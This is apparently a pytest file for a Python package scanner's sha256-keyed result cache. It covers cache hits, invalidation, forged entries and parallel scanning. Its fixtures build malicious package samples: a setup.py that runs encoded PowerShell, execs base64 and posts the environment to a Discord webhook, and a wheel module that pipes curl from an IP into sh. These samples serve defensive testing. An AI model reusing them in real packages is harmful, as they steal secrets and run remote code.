"""Scan results remembered by sha256 (guard.index.analysis_cache): a warm run scans
nothing, a new analyser or other settings scan again, a bad entry is a miss, and
scans in worker processes give what scans in this process give."""

from __future__ import annotations

import hashlib
import io
import json
import os
import tarfile
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from guard.analysis.scan import ScanResult
from guard.index import analysis_cache, popular
from guard.index.analysis_cache import (
    AnalysisCache,
    CachedScanner,
    ScanJob,
    result_from_json,
    result_to_json,
    scan_file,
)
from guard.models import Action
from guard.pip import pool
from guard.rules.base import ScanSettings

SETTINGS = ScanSettings(block_score=5.0, warn_score=2.5, budget=30.0)

EVIL_SETUP = """\
import base64, os, subprocess
import requests
from setuptools import setup

subprocess.Popen(["powershell", "-NoProfile", "-enc", "SQBFAFgA"])
exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
requests.post("https://discord.com/api/webhooks/123/abc", data=dict(os.environ))
setup(name="evil", version="1.0")
"""

PLAIN_SETUP = 'from setuptools import setup\nsetup(name="plain", version="1.0")\n'


def sdist(tmp_path: Path, name: str, files: dict[str, str]) -> Path:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{name}/{path}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    target = tmp_path / f"{name}.tar.gz"
    target.write_bytes(buffer.getvalue())
    return target


def wheel(tmp_path: Path, name: str, files: dict[str, str]) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    target = tmp_path / f"{name}-py3-none-any.whl"
    target.write_bytes(buffer.getvalue())
    return target


def job(path: Path) -> ScanJob:
    return ScanJob(path.name, path, hashlib.sha256(path.read_bytes()).hexdigest())


def archives(tmp_path: Path) -> list[ScanJob]:
    """An evil sdist, a plain sdist and a wheel with a suspicious module."""
    return [
        job(sdist(tmp_path, "evil-1.0", {"setup.py": EVIL_SETUP})),
        job(sdist(tmp_path, "plain-1.0", {"setup.py": PLAIN_SETUP})),
        job(
            wheel(
                tmp_path,
                "odd-1.0",
                {
                    "odd/__init__.py": "import os\nos.system('curl http://1.2.3.4/x | sh')\n",
                    "odd/util.py": "def f():\n    return 1\n",
                },
            )
        ),
    ]


class Counting:
    """The real scanner, counting the files it is asked to scan."""

    def __init__(self) -> None:
        self.calls: list[str] = []

    def __call__(self, path: Path, filename: str, settings: ScanSettings) -> ScanResult:
        self.calls.append(filename)
        return scan_file(path, filename, settings)


def _timeless(scans: dict[str, ScanResult | None]) -> dict[str, ScanResult | None]:
    return {n: None if r is None else replace(r, seconds=0.0) for n, r in scans.items()}


def results(scanned: object) -> dict[str, ScanResult | None]:
    assert isinstance(scanned, dict)
    return {name: s.result for name, s in scanned.items()}


# --- JSON ---------------------------------------------------------------------------


def test_a_scan_result_survives_json_unchanged(tmp_path: Path) -> None:
    evil = archives(tmp_path)[0]
    result = scan_file(evil.path, evil.filename, SETTINGS)
    assert result.level == "block" and result.findings and result.signals  # a rich result
    assert any(f.evidence for f in result.findings)
    again = result_from_json(json.loads(json.dumps(result_to_json(result))))
    assert again == result


def test_a_forced_action_survives_json(tmp_path: Path) -> None:
    evil = archives(tmp_path)[0]
    result = scan_file(evil.path, evil.filename, SETTINGS)
    forced = replace(result, findings=(replace(result.findings[0], forced=Action.BLOCK),))
    assert result_from_json(json.loads(json.dumps(result_to_json(forced)))) == forced


@pytest.mark.parametrize(
    "damage",
    [
        lambda d: d.pop("findings"),
        lambda d: d.update(extra=1),
        lambda d: d.update(score="11"),
        lambda d: d.update(truncated="no"),
        lambda d: d["findings"][0].update(rule=5),
        lambda d: d["findings"][0].update(forced="MAYBE"),
        lambda d: d["signals"][0].update(line="3"),
        lambda d: d["signals"][0].pop("weight"),
    ],
)
def test_json_that_is_not_a_result_is_refused(tmp_path: Path, damage: object) -> None:
    evil = archives(tmp_path)[0]
    data = result_to_json(scan_file(evil.path, evil.filename, SETTINGS))
    assert callable(damage)
    damage(data)
    with pytest.raises((KeyError, TypeError, ValueError)):
        result_from_json(json.loads(json.dumps(data)))


# --- the cache ----------------------------------------------------------------------


def test_a_warm_run_scans_nothing_and_gives_the_same_results(tmp_path: Path) -> None:
    jobs = archives(tmp_path)
    cold = Counting()
    first = CachedScanner(AnalysisCache(tmp_path / "cache"), cold).scan(jobs, SETTINGS)
    assert sorted(cold.calls) == sorted(j.filename for j in jobs)
    assert first["evil-1.0.tar.gz"].result is not None
    assert first["evil-1.0.tar.gz"].result.level == "block"

    warm = Counting()  # a new process: nothing in memory, only the files on disk
    second = CachedScanner(AnalysisCache(tmp_path / "cache"), warm).scan(jobs, SETTINGS)
    assert warm.calls == []
    assert results(second) == results(first)  # exactly, seconds included
    assert all(s.settings == SETTINGS and not s.error for s in second.values())


def test_cached_results_equal_uncached_ones(tmp_path: Path) -> None:
    jobs = archives(tmp_path)
    CachedScanner(AnalysisCache(tmp_path / "cache")).scan(jobs, SETTINGS)
    cached = CachedScanner(AnalysisCache(tmp_path / "cache"), Counting()).scan(jobs, SETTINGS)
    fresh = {j.filename: scan_file(j.path, j.filename, SETTINGS) for j in jobs}
    assert _timeless(results(cached)) == _timeless(dict(fresh))


def test_a_new_analyser_version_scans_again(tmp_path: Path) -> None:
    jobs = archives(tmp_path)
    CachedScanner(AnalysisCache(tmp_path / "cache")).scan(jobs, SETTINGS)
    bumped = Counting()
    cache = AnalysisCache(tmp_path / "cache", analyser=analysis_cache.default_analyser() + ".next")
    CachedScanner(cache, bumped).scan(jobs, SETTINGS)
    assert sorted(bumped.calls) == sorted(j.filename for j in jobs)


def test_another_popular_list_is_another_analyser(monkeypatch: pytest.MonkeyPatch) -> None:
    """The scan judges package-jacking against the popular list: results judged
    against another list (a refreshed one) are not taken from the cache."""
    shipped = analysis_cache.default_analyser()
    names = popular.load().names
    other = popular.PopularList((names[1], names[0], *names[2:]), origin="refreshed")
    assert other.digest() != popular.load().digest()
    analysis_cache.default_analyser.cache_clear()
    monkeypatch.setattr(popular, "load", lambda: other)
    try:
        assert analysis_cache.default_analyser() != shipped
    finally:
        analysis_cache.default_analyser.cache_clear()


def test_the_default_analyser_names_safepip_the_scan_version_and_the_code() -> None:
    from guard import __version__

    analyser = analysis_cache.default_analyser()
    assert __version__ in analyser
    assert f"scan {analysis_cache.SCAN_VERSION}" in analyser
    assert f"popular {popular.load().digest()}" in analyser
    assert (
        analysis_cache.code_digest(Path(analysis_cache.__file__).parents[1] / "analysis")
        in analyser
    )


def test_any_change_to_the_analysis_code_changes_the_digest(tmp_path: Path) -> None:
    (tmp_path / "scan").mkdir()
    (tmp_path / "scan" / "score.py").write_text("BLOCK = 5.0\n")
    (tmp_path / "typosquat.py").write_text("X = 1\n")
    before = analysis_cache.code_digest(tmp_path)
    assert analysis_cache.code_digest(tmp_path) == before
    (tmp_path / "scan" / "score.py").write_text("BLOCK = 6.0\n")
    assert analysis_cache.code_digest(tmp_path) != before
    (tmp_path / "scan" / "score.py").write_text("BLOCK = 5.0\n")
    assert analysis_cache.code_digest(tmp_path) == before
    (tmp_path / "scan" / "new_detector.py").write_text("")
    assert analysis_cache.code_digest(tmp_path) != before


def test_other_settings_scan_again(tmp_path: Path) -> None:
    jobs = archives(tmp_path)
    CachedScanner(AnalysisCache(tmp_path / "cache")).scan(jobs, SETTINGS)
    stricter = Counting()
    other = replace(SETTINGS, block_score=1.0)
    scanned = CachedScanner(AnalysisCache(tmp_path / "cache"), stricter).scan(jobs, other)
    assert len(stricter.calls) == len(jobs)
    assert all(s.settings == other for s in scanned.values())


def test_the_key_is_the_sha256_of_the_bytes_not_the_file_name(tmp_path: Path) -> None:
    evil, plain, _ = archives(tmp_path)
    cache = AnalysisCache(tmp_path / "cache")
    CachedScanner(cache).scan([evil], SETTINGS)
    # The same name with other bytes (the plain sdist's) is a miss...
    other_bytes = ScanJob(evil.filename, plain.path, plain.sha256)
    assert cache.get(other_bytes, SETTINGS) is None
    # ...and so are the same bytes under another name (a wheel is not an sdist).
    assert cache.get(replace(evil, filename="evil-1.0-py3-none-any.whl"), SETTINGS) is None
    assert cache.get(evil, SETTINGS) is not None


def _entries(root: Path) -> list[Path]:
    return sorted((root / "analysis").rglob("*.json"))


@pytest.mark.parametrize(
    "spoil",
    [
        lambda p: p.write_bytes(b""),
        lambda p: p.write_bytes(b"{not json"),
        lambda p: p.write_bytes(p.read_bytes()[:-20]),
        lambda p: p.write_text("[1, 2]"),
        lambda p: p.write_text(json.dumps({"identity": {}, "result": {}})),
        lambda p: _rewrite(p, lambda e: e["identity"].update(sha256="0" * 64)),
        lambda p: _rewrite(p, lambda e: e["identity"].update(analyser="safepip 0.0.0 scan 0")),
        lambda p: _rewrite(p, lambda e: e["result"].update(level=["block"])),
        lambda p: _rewrite(p, lambda e: e["result"].update(filename="other-1.0.tar.gz")),
        lambda p: (p.unlink(), p.mkdir()),
    ],
)
def test_a_bad_entry_is_scanned_again_and_replaced(tmp_path: Path, spoil: object) -> None:
    evil = archives(tmp_path)[0]
    root = tmp_path / "cache"
    first = CachedScanner(AnalysisCache(root)).scan([evil], SETTINGS)
    [entry] = _entries(root)
    assert callable(spoil)
    spoil(entry)

    again = Counting()
    second = CachedScanner(AnalysisCache(root), again).scan([evil], SETTINGS)
    assert again.calls == [evil.filename]
    assert _timeless(results(second)) == _timeless(results(first))
    if entry.is_file():  # rewritten: the next run trusts it again
        third = Counting()
        CachedScanner(AnalysisCache(root), third).scan([evil], SETTINGS)
        assert third.calls == []


def _rewrite(path: Path, change: object) -> None:
    entry = json.loads(path.read_text())
    assert callable(change)
    change(entry)
    path.write_text(json.dumps(entry))


def test_an_entry_forged_with_a_clean_result_for_other_bytes_is_not_used(tmp_path: Path) -> None:
    # A clean result stored for the plain sdist, copied to where the evil one's would be.
    evil, plain, _ = archives(tmp_path)
    cache = AnalysisCache(tmp_path / "cache")
    CachedScanner(cache).scan([plain], SETTINGS)
    [clean] = _entries(tmp_path / "cache")
    target = cache.path(evil, SETTINGS)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(clean.read_bytes())
    scanned = CachedScanner(cache).scan([evil], SETTINGS)
    result = scanned[evil.filename].result
    assert result is not None and result.level == "block"


def test_an_unwritable_cache_only_costs_speed(tmp_path: Path) -> None:
    root = tmp_path / "cache"
    root.write_text("a file where the directory should be")
    evil = archives(tmp_path)[0]
    counting = Counting()
    scanned = CachedScanner(AnalysisCache(root), counting).scan([evil], SETTINGS)
    assert counting.calls == [evil.filename]
    result = scanned[evil.filename].result
    assert result is not None and result.level == "block"


def test_a_failed_scan_is_reported_and_not_stored(tmp_path: Path) -> None:
    evil = archives(tmp_path)[0]

    def broken(path: Path, filename: str, settings: ScanSettings) -> ScanResult:
        raise MemoryError("out of memory")

    scanned = CachedScanner(AnalysisCache(tmp_path / "cache"), broken).scan([evil], SETTINGS)
    failed = scanned[evil.filename]
    assert failed.result is None and failed.error == "MemoryError: out of memory"
    assert _entries(tmp_path / "cache") == []


# --- in worker processes --------------------------------------------------------------


class Spy:
    """guard.pip.pool.map_in_processes, noting that it ran."""

    def __init__(self) -> None:
        self.runs = 0

    def __call__(self, fn: object, items: Sequence[object], workers: int) -> object:
        self.runs += 1
        return pool.map_in_processes(fn, items, workers)  # type: ignore[arg-type]


def test_scans_in_processes_equal_scans_here(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    jobs = archives(tmp_path)
    spy = Spy()
    monkeypatch.setattr(analysis_cache, "map_in_processes", spy)
    parallel = CachedScanner(
        AnalysisCache(tmp_path / "parallel"), processes=2, parallel_bytes=0
    ).scan(jobs, SETTINGS)
    assert spy.runs == 1
    serial = CachedScanner(AnalysisCache(tmp_path / "serial"), processes=1).scan(jobs, SETTINGS)
    assert spy.runs == 1  # one process: never a pool
    assert _timeless(results(parallel)) == _timeless(results(serial))
    assert all(s.result is not None for s in parallel.values())
    # and the parallel results were stored like any other
    assert len(_entries(tmp_path / "parallel")) == len(jobs)


def test_little_to_scan_stays_in_this_process(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spy = Spy()
    monkeypatch.setattr(analysis_cache, "map_in_processes", spy)
    jobs = archives(tmp_path)  # a few KB, far below the threshold
    CachedScanner(AnalysisCache(tmp_path / "cache"), processes=4).scan(jobs, SETTINGS)
    assert spy.runs == 0


def test_only_uncached_bytes_count_towards_the_threshold(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    jobs = archives(tmp_path)
    CachedScanner(AnalysisCache(tmp_path / "cache")).scan(jobs, SETTINGS)
    spy = Spy()
    monkeypatch.setattr(analysis_cache, "map_in_processes", spy)
    CachedScanner(AnalysisCache(tmp_path / "cache"), processes=2, parallel_bytes=0).scan(
        jobs, SETTINGS
    )
    assert spy.runs == 0  # all cached: nothing to start processes for


def crash_on_evil(path: Path, filename: str, settings: ScanSettings) -> ScanResult:
    """A scanner whose worker dies on the evil sdist (run in a worker process)."""
    if filename.startswith("evil"):
        os._exit(3)
    return scan_file(path, filename, settings)


def test_a_worker_that_dies_gives_an_error_not_a_result(tmp_path: Path) -> None:
    jobs = archives(tmp_path)
    scanner = CachedScanner(
        AnalysisCache(tmp_path / "cache"), crash_on_evil, processes=2, parallel_bytes=0
    )
    scanned = scanner.scan(jobs, SETTINGS)
    evil = scanned["evil-1.0.tar.gz"]
    assert evil.result is None and "BrokenProcessPool" in evil.error
    # whatever did finish is a real result; nothing that failed was stored
    finished = [s for s in scanned.values() if s.result is not None]
    assert len(_entries(tmp_path / "cache")) == len(finished)


def test_processes_follow_the_usable_cores(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "sched_getaffinity", lambda pid: {0, 1, 2}, raising=False)
    monkeypatch.setattr(os, "getloadavg", lambda: (12.0, 0.0, 0.0))
    assert analysis_cache.usable_cores() == 3  # a busy machine still shares its cores out
    monkeypatch.setattr(os, "sched_getaffinity", lambda pid: set(), raising=False)
    assert analysis_cache.usable_cores() == 1


def test_one_core_scans_in_this_process(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    spy = Spy()
    monkeypatch.setattr(analysis_cache, "map_in_processes", spy)
    monkeypatch.setattr(analysis_cache, "usable_cores", lambda: 1)
    scanner = CachedScanner(AnalysisCache(tmp_path / "cache"), parallel_bytes=0)
    scanned = scanner.scan(archives(tmp_path), SETTINGS)
    assert spy.runs == 0 and all(s.result is not None for s in scanned.values())
    monkeypatch.setattr(analysis_cache, "usable_cores", lambda: 2)
    CachedScanner(AnalysisCache(tmp_path / "other"), parallel_bytes=0).scan(
        archives(tmp_path), SETTINGS
    )
    assert spy.runs == 1
